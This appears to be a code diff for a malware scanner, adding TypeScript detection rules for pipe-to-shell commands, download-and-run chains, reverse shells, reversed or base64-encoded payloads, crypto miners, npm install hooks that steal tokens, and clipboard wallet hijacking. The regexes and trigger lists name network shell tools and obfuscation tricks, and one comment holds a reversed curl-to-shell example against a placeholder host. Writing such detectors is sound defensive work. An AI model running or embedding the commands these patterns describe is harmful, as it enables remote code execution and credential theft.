@@ -6,7 +6,7 @@
  * or a raw IP, base64-wrapped `curl | bash` one-liners, password-protected zips) and on the
  * classic reverse-shell cheat sheets.
  */
-import { classifyUrl, extractUrls, isNegated, patternRule, type Hit, type Rule, type Severity } from "../../../scan";
+import { classifyUrl, extractUrls, hasTrigger, isMention, isNegated, patternRule, triggerLines, type HiddenText, type Hit, type LineIndex, type Rule, type ScanTarget, type Severity } from "../../../scan";
 
 const SHELLS = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:/usr)?(?:/bin/)?(?:ba|z|da|k|fi|c|tc)?sh\b`;
 
@@ -31,16 +31,25 @@ const PIPE_TO_SHELL: readonly RegExp[] = [
   /\b(?:iex|Invoke-Expression)\b[^\n]{0,20}\(?\s*\(?\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|New-Object\s+(?:System\.)?Net\.WebClient)\b/i,
   /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|\n]*\|\s*(?:iex|Invoke-Expression)\b/i,
   /\.DownloadString\(\s*["'][^"']+["']\s*\)\s*\|\s*(?:iex|Invoke-Expression)\b/i,
+  // A WebClient made on an earlier line: `IEX $c.DownloadString('https://…')`, or a script block built from a download.
+  /\b(?:iex|Invoke-Expression)\b[^\n]{0,60}\.Download(?:String|Data)\s*\(/i,
+  /\[scriptblock\]::Create\([^\n]{0,80}(?:\.Download(?:String|Data)\s*\(|\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b)/i,
 ];
 
 export const pipeToShell: Rule = {
   id: "exec.pipe-to-shell",
   severity: "high",
   title: "Remote script piped to a shell",
-  line(line) {
-    for (const re of PIPE_TO_SHELL) {
+  triggers: ["|", "curl", "wget", "iex", "invoke-expression", "downloadstring", "scriptblock"],
+  line(line, ctx) {
+    const patterns = PIPE_TO_SHELL;
+    for (const re of patterns) {
       const m = re.exec(line);
       if (!m || isNegated(line, m.index)) continue;
+      // Prose that quotes the pattern to warn about it ("install steps such as "curl … | sh"").
+      if ((ctx.target.kind === "markdown" || ctx.target.kind === "text") && isMention(line, m.index, m[0].length)) {
+        return { index: m.index, length: m[0].length, severity: "info", message: "Quotes a pipe-to-shell command as an example" };
+      }
       const { severity, where } = remoteSeverity(line);
       return {
         index: m.index,
@@ -61,39 +70,125 @@ const DOWNLOAD_TARGET =
 
 const basename = (p: string) => p.replace(/^.*[/\\]/, "").replace(/["']/g, "");
 
+const DOWNLOAD_RUN_LINE: [RegExp, string][] = [
+  [/\bexec\s*\(\s*(?:requests|httpx)\.get\(|\bexec\s*\(\s*(?:urllib\.request\.)?urlopen\(|\bexec\s*\(\s*\w+\.(?:text|content)\s*\)/i, "Executes code fetched over the network (exec of a response)"],
+  [/\beval\s*\(\s*(?:await\s+)?\(?\s*(?:await\s+)?fetch\(|\bnew\s+Function\s*\([^)]*(?:fetch|\.text\(\)|responseText)|\beval\s*\(\s*\w+\.(?:responseText|data)\s*\)/i, "Evaluates JavaScript fetched over the network"],
+  // `fetch(url).then(r => r.text()).then(eval)`: the response handed to eval, Function or vm by a promise chain.
+  [/\b(?:fetch|axios(?:\.get)?|got|ky|request|https?\.get)\s*\([^\n]*\.then\(\s*(?:(?:\(\s*\w*\s*\)|\w+)\s*=>\s*(?:new\s+)?)?(?:eval|Function|vm\.runIn\w*Context|vm\.Script)\b/i, "Evaluates JavaScript fetched over the network"],
+  [/\bvm\.(?:runIn\w*Context|compileFunction)\s*\([^\n]*(?:fetch\(|\.text\(\)|responseText)/i, "Runs JavaScript fetched over the network in a vm context"],
+  [/\b(?:curl|wget)\b[^\n]*&&\s*(?:chmod\s+\+x\s+\S+\s*&&\s*)?\.\/[\w.-]+/i, "Downloads a file and runs it"],
+  [/\b(?:Start-Process|Invoke-Item|&)\s+["']?\$env:(?:TEMP|TMP|APPDATA)[^\n]*\.(?:exe|bat|cmd|ps1|scr|msi)\b/i, "Runs an executable dropped in a temporary folder"],
+];
+
+/** A variable that receives a download, in shell, PowerShell, Python and JavaScript. */
+const FETCHED_VAR =
+  /(?:^|[\s;({])(?:(?:export|local|readonly|const|let|var)\s+)?\$?([A-Za-z_]\w*)\s*=\s*(?:["']?\$\(\s*(?:curl|wget)\b|[^\n=]{0,60}?(?:\.Download(?:String|Data)\s*\(|\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b|\brequests\.get\(|\bhttpx\.get\(|\burlopen\(|\bfetch\s*\(|\baxios\.get\())/gm;
+
+/** What runs a variable's content as code; the name is in one of the groups. */
+const RUNS_VAR =
+  /\beval\s+["']?\$\{?([A-Za-z_]\w*)|\b(?:ba|z)?sh\s+-c\s+["']?\$\{?([A-Za-z_]\w*)|\becho\s+["']?\$\{?([A-Za-z_]\w*)\}?["']?\s*\|\s*(?:ba|z)?sh\b|\b(?:iex|Invoke-Expression)\b\s*\(?\s*\$([A-Za-z_]\w*)|\[scriptblock\]::Create\(\s*\$([A-Za-z_]\w*)|\b(?:exec|eval)\s*\(\s*([A-Za-z_]\w*)|\bnew\s+Function\s*\(\s*([A-Za-z_]\w*)|\bvm\.runIn\w*Context\s*\(\s*([A-Za-z_]\w*)/gi;
+
+/** Where a file is run: the command and the path it runs (`./x`, `sh x`, `chmod +x x`, `open x.dmg`, `os.system("… x …")`). */
+const RUN_SITE =
+  /(?:\bchmod\s+(?:[+ugoa]*x|[0-7]?[0-7][1357][0-7]*)\s+|(?<=^|[\s;&|(])(?:\.\/|(?:ba|z)?sh\s+|python[23]?\s+|node\s+|perl\s+|Start-Process\s+|&\s+|os\.system\(\s*["'][^"'\n]*|subprocess\.\w+\(\s*\[?\s*["'][^"'\n]*)|\b(?:hdiutil\s+attach|installer\s+-pkg|msiexec\s+\/i|dpkg\s+-i|rpm\s+-i\w*|open)\s+)["']?[^\s"']*/gi;
+/** Every `FETCHED_VAR` match names one of these. */
+const FETCH_TRIGGERS = ["$(", "curl", "wget", ".download", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "requests.get(", "httpx.get(", "urlopen(", "fetch", "axios.get("];
+const DOWNLOAD_TRIGGERS = ["curl", "wget", "invoke-webrequest", "iwr", "urlretrieve", ".downloadfile"];
+
+/** Each name a run site's path can be referred to by: every path part, and each part cut before a non-word character (`agent.bin` → `agent`). */
+function runNames(site: string): string[] {
+  const out: string[] = [];
+  for (const part of site.split(/[\s"'/\\=,;()[\]]+/)) {
+    if (!part) continue;
+    out.push(part);
+    for (let i = 1; i < part.length; i++) if (/\w/.test(part[i - 1]!) && /\W/.test(part[i]!)) out.push(part.slice(0, i));
+  }
+  return out;
+}
+
+/** First entry of a sorted list at or after `from`. */
+function firstAtOrAfter(list: readonly number[] | undefined, from: number): number | undefined {
+  if (!list) return undefined;
+  let lo = 0;
+  let hi = list.length;
+  while (lo < hi) {
+    const mid = (lo + hi) >> 1;
+    if (list[mid]! < from) lo = mid + 1;
+    else hi = mid;
+  }
+  return list[lo];
+}
+
+const WINDOW = 4096;
+/** A line in overlapping windows, as the engine gives long lines to line rules (bounds the lazy scans below). */
+function* lineWindows(line: string): Generator<[string, number]> {
+  if (line.length <= WINDOW) yield [line, 0];
+  else for (let at = 0; at < line.length; at += WINDOW - 256) yield [line.slice(at, at + WINDOW), at];
+}
+
 export const downloadAndRun: Rule = {
   id: "exec.download-and-run",
   severity: "high",
   title: "Download and run",
+  triggers: ["exec", "eval", "function", "then(", "vm.", "curl", "wget", "$env:"],
   line(line) {
-    const patterns: [RegExp, string][] = [
-      [/\bexec\s*\(\s*(?:requests|httpx)\.get\(|\bexec\s*\(\s*(?:urllib\.request\.)?urlopen\(|\bexec\s*\(\s*\w+\.(?:text|content)\s*\)/i, "Executes code fetched over the network (exec of a response)"],
-      [/\beval\s*\(\s*(?:await\s+)?\(?\s*(?:await\s+)?fetch\(|\bnew\s+Function\s*\([^)]*(?:fetch|\.text\(\)|responseText)|\beval\s*\(\s*\w+\.(?:responseText|data)\s*\)/i, "Evaluates JavaScript fetched over the network"],
-      [/\b(?:curl|wget)\b[^\n]*&&\s*(?:chmod\s+\+x\s+\S+\s*&&\s*)?\.\/[\w.-]+/i, "Downloads a file and runs it"],
-      [/\b(?:Start-Process|Invoke-Item|&)\s+["']?\$env:(?:TEMP|TMP|APPDATA)[^\n]*\.(?:exe|bat|cmd|ps1|scr|msi)\b/i, "Runs an executable dropped in a temporary folder"],
-    ];
-    for (const [re, message] of patterns) {
+    for (const [re, message] of DOWNLOAD_RUN_LINE) {
       const m = re.exec(line);
       if (m && !isNegated(line, m.index)) return { index: m.index, length: m[0].length, message };
     }
     return null;
   },
-  text(text) {
+  text(text, ctx) {
     const hits: Hit[] = [];
+    // Downloads: the last download of each file name (only lines that name a download tool can hold one).
     const targets = new Map<string, number>();
-    for (const m of text.matchAll(DOWNLOAD_TARGET)) {
-      const target = m.slice(1).find(Boolean);
-      if (target && !/^-$|^\/dev\/null$/.test(target)) targets.set(basename(target), m.index);
+    for (const n of [...triggerLines(text, ctx.lines, DOWNLOAD_TRIGGERS)].sort((a, b) => a - b)) {
+      const start = ctx.lines.startOf(n);
+      for (const [chunk, offset] of lineWindows(ctx.lines.line(n))) {
+        for (const m of chunk.matchAll(DOWNLOAD_TARGET)) {
+          const target = m.slice(1).find(Boolean);
+          if (target && !/^-$|^\/dev\/null$/.test(target)) targets.set(basename(target), start + offset + m.index);
+        }
+      }
     }
-    for (const [name, at] of targets) {
-      if (name.length < 2) continue;
-      const esc = name.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
-      const run = new RegExp(
-        String.raw`(?:chmod\s+(?:[+ugoa]*x|[0-7]?[0-7][1357][0-7]*)\s+["']?[^\s"']*${esc}\b|(?:^|[\s;&|(])(?:\.\/|(?:ba|z)?sh\s+|python[23]?\s+|node\s+|perl\s+|Start-Process\s+|&\s+|os\.system\(\s*["'][^"']*|subprocess\.\w+\(\s*\[?\s*["'][^"']*)["']?[^\s"']*${esc}\b|\b(?:hdiutil\s+attach|installer\s+-pkg|msiexec\s+\/i|dpkg\s+-i|rpm\s+-i\w*|open)\s+["']?[^\s"']*${esc}\b)`,
-        "i",
-      );
-      const r = run.exec(text.slice(at));
-      if (r) hits.push({ index: at + r.index, length: r[0].length, message: `Downloads ${name} and then runs it: code that was never scanned` });
+    if (targets.size) {
+      // Where files are run, indexed by every name their path can be referred to by: one pass, not one per download.
+      const sites = new Map<string, number[]>();
+      const siteEnd = new Map<number, number>();
+      for (const m of text.matchAll(RUN_SITE)) {
+        siteEnd.set(m.index, m.index + m[0].length);
+        for (const name of new Set(runNames(m[0]))) {
+          const list = sites.get(name.toLowerCase()) ?? [];
+          list.push(m.index);
+          sites.set(name.toLowerCase(), list);
+        }
+      }
+      for (const [name, at] of targets) {
+        if (name.length < 2) continue;
+        const site = firstAtOrAfter(sites.get(name.toLowerCase()), at);
+        if (site !== undefined) hits.push({ index: site, length: siteEnd.get(site)! - site, message: `Downloads ${name} and then runs it: code that was never scanned` });
+      }
+    }
+    // A download kept in a variable and run later: `$s = $wc.DownloadString(u)` … `iex $s`, `code = requests.get(u).text` … `exec(code)`.
+    const vars = new Map<string, number>();
+    for (const n of [...triggerLines(text, ctx.lines, FETCH_TRIGGERS)].sort((a, b) => a - b)) {
+      const start = ctx.lines.startOf(n);
+      for (const [chunk, offset] of lineWindows(ctx.lines.line(n))) {
+        for (const m of chunk.matchAll(FETCHED_VAR)) if (!vars.has(m[1]!)) vars.set(m[1]!, start + offset + m.index);
+      }
+    }
+    if (vars.size) {
+      const runs = new Map<string, number[]>();
+      const runEnd = new Map<number, number>();
+      for (const m of text.matchAll(RUNS_VAR)) {
+        const name = m.slice(1).find(Boolean)!;
+        runs.set(name, [...(runs.get(name) ?? []), m.index]);
+        runEnd.set(m.index, m.index + m[0].length);
+      }
+      for (const [name, at] of vars) {
+        const run = firstAtOrAfter(runs.get(name), at);
+        if (run !== undefined) hits.push({ index: run, length: runEnd.get(run)! - run, message: `Runs what it downloaded into ${name}: code that was never scanned` });
+      }
     }
     return hits;
   },
@@ -103,6 +198,7 @@ export const reverseShell = patternRule({
   id: "exec.reverse-shell",
   severity: "critical",
   title: "Reverse shell",
+  triggers: ["/dev/tcp", "/dev/udp", "\\bnc", "netcat", "socat", "mkfifo", "pty.spawn", "dup2", "socket", "tcpclient", "child_process"],
   patterns: [
     /\b(?:ba)?sh\s+-i\s*[<>&]+\s*\/dev\/(?:tcp|udp)\//i,
     /\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+\s*0?[<>]&\s*1|\bexec\s+\d+<>\s*\/dev\/tcp\//i,
@@ -124,6 +220,7 @@ export const encodedExec = patternRule({
   id: "exec.encoded-payload",
   severity: "high",
   title: "Decoded payload executed",
+  triggers: ["base64", "eval", "exec", "powershell", "pwsh", "frombase64string", "rev", "xxd", "printf", "::", "strrev", "iex", "invoke-expression"],
   patterns: [
     /\bbase64\s+(?:-[a-z]*d[a-z]*|--decode)\b[^\n]*\|\s*(?:sudo\s+)?(?:\/bin\/)?(?:ba|z)?sh\b/i,
     /\becho\s+["']?[A-Za-z0-9+/=]{16,}["']?\s*\|\s*base64\s+(?:-[a-z]*d[a-z]*|--decode)\b/i,
@@ -135,6 +232,9 @@ export const encodedExec = patternRule({
     /\|\s*rev\s*\|\s*(?:ba|z)?sh\b|\bxxd\s+-r\s+-p\b[^\n]*\|\s*(?:ba|z)?sh\b/i,
     /\bprintf\s+["'](?:\\x[0-9a-f]{2}){4,}[^"']*["']\s*\|\s*(?:ba|z)?sh\b/i,
     /\beval\s*\(\s*String\.fromCharCode\b|\bexec\s*\(\s*["']{0,2}\s*\.?join\(\s*(?:map\(\s*)?chr\b/i,
+    // A command written backwards and reversed as it runs: `os.system(cmd[::-1])`, `execSync(s.split('').reverse().join(''))`.
+    /\b(?:os\.system|os\.popen|subprocess\.\w+|exec|eval|system|popen|shell_exec|passthru|execSync|spawnSync|execFileSync|Function)\s*\([^\n]{0,80}?(?:\[\s*::\s*-1\s*\]|\.reverse\(\)\s*\.join\(|\bstrrev\s*\(|\breversed\s*\()/i,
+    /\b(?:iex|Invoke-Expression)\b[^\n]{0,80}(?:\[array\]::Reverse|\[-1\.\.)/i,
   ],
   message: "Decodes an obfuscated payload and executes it",
 });
@@ -143,6 +243,7 @@ export const protectedArchive = patternRule({
   id: "exec.protected-archive",
   severity: "high",
   title: "Password-protected archive",
+  triggers: ["unzip", "7z", "unrar", "password"],
   patterns: [
     /\bunzip\b[^\n]*\s-P\s*\S+|\b7z\s+[ex]\b[^\n]*\s-p\S+|\bunrar\b[^\n]*\s-p\S+/i,
     /\b(?:archive|zip|rar|7z)\s+password\s*(?:is|:)\s*\S+/i,
@@ -154,8 +255,88 @@ export const cryptoMiner = patternRule({
   id: "exec.crypto-miner",
   severity: "high",
   title: "Cryptocurrency miner",
+  triggers: ["stratum", "xmr", "miner", "t-rex", "donate-level"],
   patterns: [/\bstratum\+(?:tcp|ssl|tls):\/\//i, /\b(?:xmrig|xmr-stak|minerd|cpuminer|cgminer|ethminer|nbminer|t-rex|phoenixminer)\b/i, /--donate-level\b/i],
   message: "Runs or configures a cryptocurrency miner",
 });
 
-export const EXECUTION_RULES: Rule[] = [pipeToShell, downloadAndRun, reverseShell, encodedExec, protectedArchive, cryptoMiner];
+const REVERSAL = /\[\s*::\s*-1\s*\]|\.reverse\(\)|\bstrrev\s*\(|\|\s*rev\b|\[array\]::Reverse\b|\breversed\s*\(|\.reverse\b/i;
+const STRING_LITERAL = /(["'`])((?:\\.|(?!\1)[^\\\n]){8,2000})\1/g;
+
+/**
+ * Hidden text for the engine: string literals of a file that reverses strings, read backwards.
+ * `cmd = 'hs | x/elpmaxe.live//:sptth lruc'` then `os.system(cmd[::-1])` hides a pipe-to-shell
+ * from every keyword rule; scanned reversed, it is found (and raised, being hidden).
+ */
+export function reversedStrings(target: ScanTarget, lines: LineIndex): HiddenText[] {
+  if (!target.text || target.kind === "binary" || !REVERSAL.test(target.text)) return [];
+  const out: HiddenText[] = [];
+  for (const m of target.text.matchAll(STRING_LITERAL)) {
+    if (out.length >= 50) break;
+    out.push({ text: [...m[2]!].reverse().join(""), line: lines.lineOf(m.index), via: "a reversed string" });
+  }
+  return out;
+}
+
+const LIFECYCLE = /"(preinstall|install|postinstall|preprepare|prepare|postprepare|prepublish|prepack|postpack|preuninstall|uninstall|postuninstall)"\s*:\s*"((?:\\.|[^"\\])*)"/g;
+const HOOK_NETWORK = /\b(?:curl|wget|nc|ncat|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|fetch|axios|XMLHttpRequest|urlopen|urllib|requests\.|https?\.(?:get|request)|require\(\s*\\?["'](?:node:)?(?:https?|net|dgram|dns)\\?["']\s*\)|dns\.resolve|nslookup|socket\.)|https?:\/\/|\/dev\/tcp\//i;
+const HOOK_OBFUSCATED = /\bbase64\s+-{1,2}d|\bBuffer\.from\([^)]*base64|\batob\(|\beval\(|\bFunction\(|fromCharCode|\\x[0-9a-f]{2}/i;
+const HOOK_SECRETS = /\bprocess\.env\b|\$\{?[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD|PASS|CREDENTIALS?|AUTH)\w*|\bos\.environ\b|\.npmrc\b|\.ssh\/|\.aws\/|\benv\s*\||\bprintenv\b|trufflehog/i;
+
+/**
+ * An npm lifecycle script (`postinstall`, `prepare` …) in a bundled package.json runs on every
+ * `npm install` of that template, with the user's environment and tokens. Hooks that reach the
+ * network, decode or eval code, or touch secrets are how npm worms spread (the 2025 Shai-Hulud and
+ * Nx "s1ngularity" attacks stole npm and GitHub tokens this way); `husky install` or a local build
+ * script is ordinary.
+ */
+export const installHook: Rule = {
+  id: "exec.install-hook",
+  severity: "high",
+  title: "Install hook that phones home",
+  kinds: ["json"],
+  text(text, ctx) {
+    if (!/(?:^|\/)package\.json$/i.test(ctx.target.path)) return [];
+    const hits: Hit[] = [];
+    for (const m of text.matchAll(LIFECYCLE)) {
+      const cmd = m[2]!;
+      const network = HOOK_NETWORK.test(cmd);
+      const obfuscated = HOOK_OBFUSCATED.test(cmd);
+      if (!network && !obfuscated) continue;
+      const secrets = HOOK_SECRETS.test(cmd);
+      hits.push({
+        index: m.index,
+        length: m[0].length,
+        severity: network && secrets ? "critical" : "high",
+        message:
+          network && secrets
+            ? `The '${m[1]}' script of this package.json sends environment or credential data over the network on every npm install`
+            : `The '${m[1]}' script of this package.json ${network ? "reaches the network" : "decodes or evaluates hidden code"} on every npm install`,
+      });
+    }
+    return hits;
+  },
+};
+
+const CLIPBOARD_TRIGGERS = ["pbpaste", "xclip", "xsel", "wl-paste", "get-clipboard", "clipboard", "pyperclip"];
+const CLIPBOARD_READ = /\b(?:pbpaste|xclip\b[^\n]*-o|xsel\b[^\n]*(?:-o|--output)|wl-paste|Get-Clipboard|clipboard\.(?:readText|paste)|pyperclip\.paste|GetClipboardData)\b/i;
+const CLIPBOARD_WRITE = /\b(?:pbcopy|xclip\b(?![^\n]*-o)|xsel\b[^\n]*(?:-i|--input|-b)|wl-copy|Set-Clipboard|clipboard\.(?:writeText|copy)|pyperclip\.copy|SetClipboardData)\b/i;
+const WALLET = /\b0x[a-fA-F0-9]{40}\b|\bbc1[ac-hj-np-z02-9]{25,60}\b|\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b|\bT[1-9A-HJ-NP-Za-km-z]{33}\b|\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/;
+
+/**
+ * A clipper: reads the clipboard and writes a hard-coded wallet address back, so a payment the
+ * user pastes goes to the attacker (a staple of crypto-stealing malware).
+ */
+export const clipboardHijack: Rule = {
+  id: "exec.clipboard-hijack",
+  severity: "high",
+  title: "Clipboard hijacking",
+  text(text) {
+    if (!hasTrigger(text, CLIPBOARD_TRIGGERS) || !CLIPBOARD_READ.test(text) || !CLIPBOARD_WRITE.test(text)) return [];
+    const m = WALLET.exec(text);
+    if (!m) return [];
+    return [{ index: m.index, length: m[0].length, message: "Reads the clipboard and writes a hard-coded wallet address back: payments the user pastes go to someone else" }];
+  },
+};
+
+export const EXECUTION_RULES: Rule[] = [pipeToShell, downloadAndRun, reverseShell, encodedExec, protectedArchive, cryptoMiner, installHook, clipboardHijack];
